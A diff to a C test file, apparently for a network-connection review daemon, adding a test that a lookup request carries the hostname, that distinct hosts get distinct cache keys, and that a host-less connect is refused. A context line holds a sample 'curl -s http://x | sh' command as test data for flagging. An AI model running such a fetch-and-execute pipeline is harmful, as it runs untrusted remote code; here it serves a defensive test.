@@ -101,6 +101,32 @@ static void test_request(void)
 	review_req_free(&rr);
 }
 
+/* A lookup (docs/dns.md): the name alone, with no family and no address yet. */
+static void test_lookup(void)
+{
+	struct review r = { .kind = REVIEW_CONNECT, .host = "api.example.com", .port = 443 };
+	struct review other = r;
+	char *body, *k1 = NULL, *k2 = NULL, err[128];
+	struct review_req rr;
+	size_t len, l1, l2;
+
+	other.host = "exfil.example.com";
+	ok(review_encode(&r, &body, &len) == 0 && strstr(body, "\"host\":\"api.example.com\"") &&
+		   review_req_parse(body, len, &rr, err, sizeof(err)) == 0 && rr.r.host &&
+		   !strcmp(rr.r.host, "api.example.com") && !rr.r.family && !rr.r.addr,
+	   "a lookup's request carries the host, and parses with no family or address");
+	ok(!review_key(&r, &k1, &l1) && !review_key(&other, &k2, &l2) &&
+		   (l1 != l2 || memcmp(k1, k2, l1)),
+	   "... and two names are two reviews to the verdict cache");
+	free(k1);
+	free(k2);
+	free(body);
+	review_req_free(&rr);
+	body = "{\"kind\":\"connect\",\"port\":443}";
+	ok(review_req_parse(body, strlen(body), &rr, err, sizeof(err)) < 0,
+	   "a connect with neither address nor host is refused");
+}
+
 static void test_real(void)
 {
 	const char *bad[] = { "sh", "-c", "curl -s http://x | sh", NULL };
@@ -234,6 +260,7 @@ int main(void)
 	snprintf(sock, sizeof(sock), "%s/run/slm.sock", dir);
 	snprintf(fake, sizeof(fake), "%s/fake.sock", dir);
 	test_request();
+	test_lookup();
 	test_real();
 	test_fake();
 	unlink(fake);
